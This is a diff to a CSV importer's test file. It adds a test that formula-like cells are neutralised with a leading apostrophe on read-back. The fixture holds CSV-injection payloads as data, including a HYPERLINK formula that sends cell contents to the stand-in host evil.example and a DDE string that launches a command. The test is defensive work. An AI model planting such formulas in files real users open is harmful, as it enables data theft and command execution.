@@ -7,6 +7,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import net from 'node:net';
+import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import { createToken } from '../identity/personal-access-tokens.ts';
 import { workspace } from '../../test-support/hub.ts';
@@ -111,6 +112,28 @@ test('BOM, CRLF, quoted commas, quotes and line breaks are read as RFC 4180 says
   assert.deepEqual(row, { first_name: 'Lovelace, Ada', title: 'The "Countess"', additional_fields: { notes: 'line one\r\nline two' } });
   const read = await request('GET', '/import/crm/contact/c-q');
   assert.equal(read.text, 'id,first_name,title,notes\nc-q,"Lovelace, Ada","The ""Countess""","line one\r\nline two"\n');
+});
+
+test('read-back: text a spreadsheet would run as a formula comes back as quoted text with a leading \', numbers as they are (OWASP CSV injection)', async () => {
+  const upload = [
+    'id,name,website,industry,region,country,domain,annual_revenue,number_of_employees,crm_note,crm_wide',
+    'f-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+cmd|\' /C calc\'!A0,@SUM(1+1),-2+3,"\tTab","\'quoted",-12.5,-3,"\r=1+1",\uFF1D1+1',
+  ].join('\n');
+  const done = await importer.run('account', `${upload}\n`);
+  assert.equal(done.status, 'completed', JSON.stringify(done));
+  const read = await request('GET', '/import/crm/account/f-1');
+  assert.equal(
+    read.text,
+    'id,name,website,domain,industry,annual_revenue,number_of_employees,region,country,crm_note,crm_wide\n' +
+      'f-1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","\'+cmd|\' /C calc\'!A0","\'\'quoted","\'@SUM(1+1)",-12.5,-3,"\'-2+3","\'\tTab","\'\r=1+1","\'\uFF1D1+1"\n',
+  );
+  // What docs/importer.md tells a client: drop one leading ' from a text value that has it.
+  const stored = await data.selectFrom('accounts').select(['name', 'website', 'industry', 'region', 'country', 'domain', 'additional_fields']).where('id', '=', 'f-1').executeTakeFirstOrThrow();
+  const [header, values] = parse(read.text) as string[][];
+  const numeric = new Set(['annual_revenue', 'number_of_employees']);
+  const recovered = Object.fromEntries(header!.map((name, i) => [name, numeric.has(name) ? values![i] : values![i]!.replace(/^'/, '')]));
+  const { additional_fields: additional, ...standard } = stored;
+  assert.deepEqual(recovered, { id: 'f-1', annual_revenue: '-12.5', number_of_employees: '-3', ...standard, ...(additional as object) });
 });
 
 test('a 10 MB single cell: kept exactly in an additional field; a job failure with line in a standard field', async () => {
